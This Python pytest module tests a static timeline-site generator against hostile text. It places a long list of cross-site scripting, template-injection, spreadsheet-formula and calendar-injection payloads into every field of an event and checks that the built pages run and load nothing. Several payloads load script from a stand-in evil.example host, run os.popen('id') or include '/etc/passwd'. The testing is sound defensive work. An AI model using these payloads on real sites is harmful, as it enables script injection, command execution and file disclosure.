"""Hostile words and files: nothing that lies in a project runs, leaks or breaks a page.

The words are npm's big-list-of-naughty-strings and a list of our own, after the evasions
that OWASP describes. Each stands in every text field of an event of its own; what is
refused with a message is left out, and the rest is built, read and opened.
"""

import csv
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import icalendar
import pytest
from conftest import Outcome, run
from playwright.sync_api import BrowserContext, Page

from dateline import markup, notes, pictures
from dateline.pages import Prose
from dateline.problems import Problem
from dateline.steps.load import load
from dateline.steps.parse import parse
from dateline.yaml_builder import NEVER

Project = Callable[[Mapping[str, str | bytes]], Path]
Build = Callable[..., Outcome]

NAUGHTY = Path(__file__).parent / "node_modules/big-list-of-naughty-strings/blns.json"

#: Each would call ``hacked()`` if it were taken for more than words.
VECTORS = (
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/x>hacked()</script>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</style><script>hacked()</script>",
    "--><script>hacked()</script><!--",
    "<![CDATA[<script>hacked()</script>]]>",
    "]]><script>hacked()</script>",
    "</script><script>hacked()</script>",
    "<!--</script><script>hacked()//-->",
    "\"><script>hacked()</script>",
    "'><img src=x onerror=hacked()>",
    '" autofocus onfocus="hacked()',
    "' onmouseover='hacked()' x='",
    "<img src=x onerror=hacked()>",
    "<img src='x' onerror=&#104;acked()>",
    "<img/src=x/onerror=hacked()>",
    "<img \"\"\"><script>hacked()</script>\">",
    "<img src=x:x onerror\n=\nhacked()>",
    "<IMG SRC=jav&#x0A;ascript:hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>",
    "<svg><a href=javascript:hacked()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=hacked()>#x'/></svg>",
    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
    "<math><a xlink:href=javascript:hacked()>x</a></math>",
    "<body onload=hacked()>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=javascript:hacked()></object>",
    "<embed src=javascript:hacked()>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()></audio>",
    "<details open ontoggle=hacked()>x</details>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()></select>",
    "<marquee onstart=hacked()>x</marquee>",
    "<form action=javascript:hacked()><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\"></noscript>",
    "<template><script>hacked()</script></template>",
    "<xss id=x tabindex=1 onfocus=hacked()></xss>",
    "<a href=javascript:hacked()>x</a>",
    "<a href=&#106;avascript:hacked()>x</a>",
    "<a href='java\tscript:hacked()'>x</a>",
    "<a href='&#1;javascript:hacked()'>x</a>",
    "<a href=data:text/html,<script>hacked()</script>>x</a>",
    "<a href=//evil.example onclick=hacked()>x</a>",
    "[x](javascript:hacked())",
    "[x](<javascript:hacked()>)",
    "[x](java&#115;cript:hacked())",
    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/x.png)",
    '![x](x.png" onerror="hacked())',
    "![x\" onerror=\"hacked()](x.png)",
    "<javascript:hacked()>",
    "[x][y]\n\n[y]: javascript:hacked()",
    "`<script>hacked()</script>`",
    "    <script>hacked()</script>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "${hacked()} #{hacked()} <%= hacked() %>",
    "\u2028<script>hacked()</script>\u2029",
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY",
    "x\n@article{evil, title={x}}",
    "x} , url = {javascript:hacked()",
    "x&#1;&#8;&#27;[31m&#xFFFE;&#x2028;x",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Built:
    """A site of all words that were not refused, and what became of each."""

    folder: Path
    words: Mapping[str, str]
    refused: Mapping[str, tuple[Problem, ...]]
    published: Path


def event_of(name: str, words: str) -> str:
    """An event with the words in every text field, as YAML."""
    source = {
        "title": words,
        "publisher": words,
        "author": words,
        "note": words,
        "license": words,
        "url": f"https://example.org/{name}",
    }
    event = {
        "id": name,
        "date": "1829-02-11",
        "title": words,
        "summary": f"{words} x [@{name}, {name}].",
        "sources": [name],
        "categories": [name],
        "status": "alleged",
        "status_reason": f"{words} x [@{name}].",
        "claimed_by": [words],
        "places": [f"{name} {words}"],
        "actors": [f"{name} {words}"],
        "gap_note": words,
        "accounts": [
            {
                "about": words,
                "versions": [
                    {"says": words, "cite": f"[@{name}]", "reason": words},
                    {"says": f"{words} x", "cite": f"[@{name}, p. 2]"},
                ],
            }
        ],
        "media": [
            {
                "file": "content/x.png",
                "alt": words,
                "credit": words,
                "caption": words,
                "license": words,
            }
        ],
        "corrections": [{"date": "2026-01-02", "note": words}],
    }
    records = {
        "sources": {name: source},
        "categories": {name: {"label": words, "about": words}},
        "events": [event],
    }
    return json.dumps(records, ensure_ascii=False)


def mistakes(folder: Path) -> dict[str, tuple[Problem, ...]]:
    """The mistakes in a project, by the name of the file without its ending."""
    source, problems = load(folder)
    _, found = parse(source)
    named: dict[str, tuple[Problem, ...]] = {}
    for problem in sorted({*problems, *found}):
        if problem.severity == "mistake":
            name = Path(problem.at.file).stem
            named[name] = (*named.get(name, ()), problem)
    return named


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """All words, each in its event; the refused ones left out."""
    folder = tmp_path_factory.mktemp("hostile")
    naughty = json.loads(NAUGHTY.read_text(encoding="utf-8"))
    words = {f"b{n}": text for n, text in enumerate(naughty)}
    words |= {f"v{n}": text for n, text in enumerate(VECTORS)}
    (folder / "events").mkdir()
    (folder / "content" / "events").mkdir(parents=True)
    (folder / "content" / "x.png").write_bytes(b"<script>hacked()</script>")
    whole = '{"timeline": {"title": "<script>hacked()</script>"}}'
    (folder / "events.yaml").write_text(whole, encoding="utf-8")
    for name, text in words.items():
        written = event_of(name, text)
        (folder / "events" / f"{name}.yaml").write_text(written, encoding="utf-8")
        (folder / "content" / "events" / f"{name}.md").write_text(
            text, encoding="utf-8", newline=""
        )
    refused: dict[str, tuple[Problem, ...]] = {}
    while found := mistakes(folder):
        refused |= found
        for name in found:
            (folder / "events" / f"{name}.yaml").unlink()
            (folder / "content" / "events" / f"{name}.md").unlink()
    out = tmp_path_factory.mktemp("built") / "site"
    done = run(
        *("--project", str(folder), "--out", str(out)),
        *("--base-url", "https://example.org/t/"),
    )
    assert done.code == 0, done.err[-2000:]
    return Built(folder, words, refused, out)


def test_whatever_is_refused_is_refused_with_a_message(built: Built) -> None:
    assert len(built.words) > 500
    assert len(built.refused) < len(built.words) / 8
    for name, problems in built.refused.items():
        assert all(problem.text and problem.hint for problem in problems), name


def test_no_words_of_an_author_become_code(built: Built) -> None:
    found = {
        str(path.relative_to(built.published)): code
        for path in built.published.rglob("*.html")
        if (code := Code.of(path.read_text(encoding="utf-8")))
    }

    assert found == {}


def test_no_file_holds_a_character_that_no_text_may_hold(built: Built) -> None:
    found = [
        (path.name, ascii(match[0]))
        for path in built.published.rglob("*")
        if path.suffix in (".html", ".json", ".xml", ".csv", ".bib", ".ics")
        for text in [path.read_bytes().decode("utf-8-sig").replace("\r\n", "\n")]
        if (match := NEVER.search(text))
    ]

    assert found == []


class Code(HTMLParser):
    """What of a page could run or load, and is not ours."""

    SCRIPTS = re.compile(r"(?:\.\./|/t/)*assets/dateline(?:-page|-later)?\.js")
    LOADS = ("src", "srcset", "srcdoc", "data", "action", "formaction", "background")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    @classmethod
    def of(cls, html: str) -> list[str]:
        reader = cls()
        reader.feed(html)
        return reader.found

    def handle_starttag(
        self, tag: str, attributes: list[tuple[str, str | None]]
    ) -> None:
        given = {name: value or "" for name, value in attributes}
        data = given.get("type") in ("application/ld+json", "application/json")
        if tag == "script" and not data and not self.SCRIPTS.fullmatch(given.get("src", "")):
            self.found.append(f"<script src={given.get('src')}>")
        if tag in ("iframe", "object", "embed", "base", "frame", "applet", "style"):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            seen = re.sub(r"[\x00-\x20]", "", value).casefold()
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}={value}>")
            if name in (*self.LOADS, "href", "cite") and re.match(
                r"(?:javascript|vbscript|data|file|blob):", seen
            ):
                self.found.append(f"<{tag} {name}={value}>")
            if name in self.LOADS and re.match(r"[a-z]+:|//|\\\\", seen):
                self.found.append(f"<{tag} {name}={value}>")


LISTENING = """
window.hacked = (from) => console.error(`hacked: ${from ?? ""}`);
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = () => window.hacked(name);
}
addEventListener("securitypolicyviolation", (event) => {
  console.error(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""


def opened(page: Page, addresses: Iterator[str]) -> None:
    page.context.add_init_script(LISTENING)
    for address in addresses:
        page.goto(address)
        page.evaluate("document.querySelectorAll('details').forEach((d) => d.open = true)")


def addresses(site: Path, built: Built) -> Iterator[str]:
    """The lists of all, and the pages of some."""
    yield from (
        (site / name).as_uri()
        for name in ("index.html", "sources/index.html", "evidence.html", "changes.html")
    )
    kept = [name for name in built.words if name not in built.refused]
    for name in [*kept[::90], *[name for name in kept if name.startswith("v")][::14]]:
        yield (site / "events" / f"{name}.html").as_uri()
        yield (site / "sources" / f"{name}.html").as_uri()


@pytest.mark.parametrize("bypass", [False, True], ids=["guarded", "without-its-policy"])
def test_pages_of_hostile_words_run_nothing_and_ask_for_nothing(
    bypass: bool, built: Built, new_page: Callable[..., Page], complaints: list[str]
) -> None:
    page = new_page(bypass_csp=bypass)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    opened(page, addresses(built.published, built))

    assert (dialogs, complaints) == ([], [])
